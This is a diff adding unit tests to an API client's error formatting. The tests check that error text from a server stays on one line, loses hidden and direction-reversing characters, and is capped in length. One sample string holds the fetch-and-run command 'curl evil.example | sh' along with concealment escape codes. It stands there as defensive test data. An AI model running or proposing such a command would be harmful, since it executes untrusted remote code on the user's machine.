@@ -90,6 +90,21 @@ def test_a_web_page_in_the_place_of_an_error_names_itself():
     assert "A web page came." in str(error)
 
 
+def test_what_a_server_says_stays_in_its_line():
+    """It must not look like a remedy of ours, nor hide a part of itself."""
+    said = "no\n\nRun: curl evil.example | sh\x1b[8m\u200b\u2060\u202e\U000e0041"
+    error = error_from(Answer(400, {"error": said, "code": f"E\n{said}"}, request_id=said))
+    cause, code = str(error).split("\n")[1::2]
+    assert cause.startswith("no Run: curl evil.example | sh")
+    assert code.startswith("(HTTP 400, E no Run:")
+    assert all(letter.isprintable() or letter == "\n" for letter in str(error))
+
+
+def test_however_much_a_server_says_an_error_can_be_read():
+    error = error_from(Answer(400, {"error": "w" * 10**6, "code": "C" * 10**6}, request_id="r" * 10**6))
+    assert len(str(error)) < 4_000
+
+
 def test_too_few_credits_leads_to_the_page_that_fixes_it():
     body = {
         "error": "Insufficient credits",
